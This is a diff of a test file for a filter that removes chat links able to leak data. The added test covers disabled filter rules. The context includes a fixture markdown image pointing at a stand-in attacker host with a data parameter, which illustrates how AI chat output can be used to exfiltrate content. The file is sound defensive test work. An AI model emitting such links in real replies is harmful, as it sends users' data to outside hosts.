@@ -75,6 +75,16 @@ describe("removal of links that could leak data from a chat", () => {
   });
 });
 
+describe("disabled rules of the removal of links", () => {
+  it("leave their kind of links in the text", () => {
+    const known = { hosts: new Set<string>(), allowedHosts: [], isInPrompt: () => false };
+    const kindsOf = (disabledRules: string[]) =>
+      new Set(exfiltrationFormats({ ...known, disabledRules }).map(({ kind }) => kind));
+    expect(kindsOf([])).toEqual(new Set(["image removed", "link removed"]));
+    expect(kindsOf(["link removed"])).toEqual(new Set(["image removed"]));
+  });
+});
+
 describe("removal of links from a stream", () => {
   const fragments = [
     "![x](//evil.example/p.png?d=1)",
